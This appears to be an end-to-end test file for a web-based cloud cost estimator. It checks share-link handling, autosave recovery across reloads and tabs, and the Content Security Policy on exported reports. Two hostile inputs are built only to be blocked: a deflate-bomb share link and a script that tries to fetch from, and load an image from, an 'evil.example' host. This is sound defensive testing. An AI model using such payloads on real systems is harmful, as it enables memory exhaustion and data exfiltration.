// tests/e2e/ui_safety.test.mjs - links from strangers cannot hurt, and nothing they replace is lost: a share link
// that is a deflate bomb is refused and the work stays; a replaced workspace comes back through File > Recover after
// a reload; two tabs keep two autosaves; the exported pages render under their strict policy, which blocks the rest.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateRawSync } from 'node:zlib';
import { pathToFileURL } from 'node:url';
import { artifactPath, clickWidget, downloadByClicking, dropFile, openDemoThroughMenu, openEstimator, quickSizePaas,
         useEstimatorSite, waitForFrames, waitForState } from './harness.mjs';

const site = useEstimatorSite();

async function reload(page) {
  await page.reload();
  await page.waitForFunction(() => window.estimator && window.Module && window.Module.calledRun, null, { timeout: 30000 });
  await page.evaluate(() => window.estimator.enableLocator());
  await waitForFrames(page, 3);
}

/** Quick size (10 servers) carried into the workspace: 12 workloads named "Quick size estate", autosaved. */
async function adoptQuickSize(page) {
  await quickSizePaas(page);
  await clickWidget(page, 'quick.adopt');
  return waitForState(page, (x) => x.scenario.workloads === 12 && x.result.ok && x.autosaveCurrent, 'the adopted estate, autosaved');
}

test('a share link that inflates past the limit is refused, and the work stays', async () => {
  const { context, page, consoleErrors } = await openEstimator(site.browser, site.server.url);
  await adoptQuickSize(page);
  // 256 MiB of zeros deflate to about 250 KB: a link that would take the tab's memory if read to the end.
  const bomb = deflateRawSync(Buffer.alloc(256 << 20), { level: 9 }).toString('base64url');
  await page.goto(site.server.url + '#s=' + bomb);
  await reload(page);
  const after = await waitForState(page, (x) => x.notices.some((n) => n.startsWith('This link is too large or damaged')),
                                   'the refusal of the link');
  assert.ok(after.notices.some((n) => n.includes('more than 32 MiB') && n.endsWith('Your current work is unchanged.')),
            JSON.stringify(after.notices));
  assert.equal(after.scenario.workloads, 12, 'the autosaved work is still open');
  assert.equal(after.scenario.name, 'Quick size estate');
  assert.equal(after.undoDepth, 0, 'nothing was opened over it');
  assert.deepEqual(consoleErrors, []);
  await context.close();
});

test('a damaged share link is refused with the same words', async () => {
  const { context, page } = await openEstimator(site.browser, site.server.url + '#s=bm90LWRlZmxhdGU');
  const s = await waitForState(page, (x) => x.notices.some((n) => n.startsWith('This link is too large or damaged')),
                               'the refusal of the link');
  assert.equal(s.scenario.workloads, 0);
  await context.close();
});

test('what a demo replaces is kept, and File > Recover reopens it after a reload', async () => {
  const { context, page, consoleErrors } = await openEstimator(site.browser, site.server.url);
  await adoptQuickSize(page);
  await openDemoThroughMenu(page, 'demo_onprem-400-vm.json');
  const replaced = await waitForState(page, (x) => x.scenario.name !== 'Quick size estate' && x.autosaveCurrent, 'the demo, autosaved');
  const demoName = replaced.scenario.name;
  assert.ok(replaced.notices.some((n) => n === '"Quick size estate" was replaced and is kept in this browser: File > Recover ' +
                                          'kept work reopens it, also after a reload.'), JSON.stringify(replaced.notices));

  await reload(page); // the undo history is gone; the autosave brings the demo back
  const restored = await waitForState(page, (x) => x.notices.some((n) => n.startsWith('Restored your autosaved work')), 'the restore');
  assert.equal(restored.scenario.name, demoName);
  assert.equal(restored.undoDepth, 0);
  await clickWidget(page, 'menu.file');
  await clickWidget(page, 'menu.recover');
  await clickWidget(page, 'menu.recover.0');
  const recovered = await waitForState(page, (x) => x.scenario.name === 'Quick size estate', 'the recovered work');
  assert.equal(recovered.scenario.workloads, 12);
  assert.equal(recovered.undoLabel, 'Open the kept work', 'recovering is one undoable step');
  // Recovering replaced the demo, which is kept in its turn.
  assert.ok(recovered.notices.some((n) => n.startsWith(`"${demoName}" was replaced and is kept`)), JSON.stringify(recovered.notices));
  assert.deepEqual(consoleErrors, []);
  await context.close();
});

test('two tabs edit two scenarios and each keeps its own across a reload', async () => {
  const context = await site.browser.newContext({ viewport: { width: 1280, height: 800 } });
  const first = await openEstimator(site.browser, site.server.url, { context });
  const second = await openEstimator(site.browser, site.server.url, { context });
  // Each tab in front while it is used, as a person switches tabs: input goes to the tab they look at.
  await first.page.bringToFront();
  await adoptQuickSize(first.page);
  await second.page.bringToFront();
  await openDemoThroughMenu(second.page, 'demo_onprem-400-vm.json');
  // The second tab wrote last: with one autosave for the site, the first tab's reload would bring the demo back.
  const demo = await waitForState(second.page, (x) => x.scenario.workloads > 12 && x.autosaveCurrent, 'the demo, autosaved');

  await reload(second.page);
  const secondAfter = await waitForState(second.page, (x) => x.notices.some((n) => n.startsWith('Restored your autosaved work')),
                                         'the second tab restored');
  assert.equal(secondAfter.scenario.name, demo.scenario.name);
  assert.equal(secondAfter.scenario.workloads, demo.scenario.workloads);
  await first.page.bringToFront();
  await reload(first.page);
  const firstAfter = await waitForState(first.page, (x) => x.notices.some((n) => n.startsWith('Restored your autosaved work')),
                                        'the first tab restored');
  assert.equal(firstAfter.scenario.name, 'Quick size estate');
  assert.equal(firstAfter.scenario.workloads, 12);

  // A tab opened after the others closed takes over the newest of their autosaves.
  await first.page.close();
  await second.page.close();
  const third = await openEstimator(site.browser, site.server.url, { context });
  const adopted = await waitForState(third.page, (x) => x.notices.some((n) => n.startsWith('Restored your autosaved work')),
                                     'the third tab restored');
  assert.equal(adopted.scenario.name, demo.scenario.name, 'the newest autosave (the second tab wrote last)');
  assert.deepEqual([...first.consoleErrors, ...second.consoleErrors, ...third.consoleErrors], []);
  await context.close();
});

test('the exported pages render under their policy (styles, the data: logo) and it blocks anything else', async () => {
  const { context, page } = await openEstimator(site.browser, site.server.url);
  const logo = 'data:image/svg+xml,' + encodeURIComponent(
    '<svg xmlns="http://www.w3.org/2000/svg" width="24" height="8"><rect width="24" height="8" fill="#f90"/></svg>');
  await dropFile(page, 'theme.json', JSON.stringify({ partnerName: 'Acme Cloud', accentColor: '#FF9900', logo }), 'application/json');
  await waitForState(page, (s) => s.partner.name === 'Acme Cloud' && s.partner.logoTexture, 'the partner logo');
  await waitForFrames(page, 3);
  await openDemoThroughMenu(page, 'demo_onprem-400-vm.json');
  await waitForState(page, (s) => s.scenario.workloads === 400 && s.result.ok, 'the 400-VM demo');
  for (const [item, styled] of [['menu.cfo.summary', 'header .who'], ['menu.cfo.html', 'h2']]) {
    await clickWidget(page, 'menu.cfo');
    const file = await downloadByClicking(page, item, 'safety-');
    const viewer = await context.newPage();
    const violations = [];
    viewer.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) violations.push(m.text()); });
    await viewer.goto(pathToFileURL(artifactPath('safety-' + file.name)).href);
    // The inline stylesheet applies: a bold partner name, a ruled section heading.
    const weight = await viewer.$eval(styled, (e) => getComputedStyle(e).fontWeight);
    assert.ok(Number(weight) >= 600, `${file.name}: ${styled} is styled (font-weight ${weight})`);
    if (item === 'menu.cfo.summary') {
      const width = await viewer.$eval('header img', (img) => img.complete ? img.naturalWidth : -1);
      assert.equal(width, 24, 'the data: logo is shown');
    }
    assert.deepEqual(violations, [], `${file.name} renders without breaking its policy`);
    // The policy is in force: a script the page did not carry may not reach elsewhere or load an image from there.
    const blocked = await viewer.evaluate(async () => {
      const seen = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
      await fetch('https://evil.example/steal').catch(() => {});
      const img = new Image();
      img.src = 'https://evil.example/pixel.png';
      document.body.appendChild(img);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return seen;
    });
    assert.ok(blocked.includes('connect-src') && blocked.includes('img-src'), `${file.name}: ${JSON.stringify(blocked)}`);
    await viewer.close();
  }
  await context.close();
});
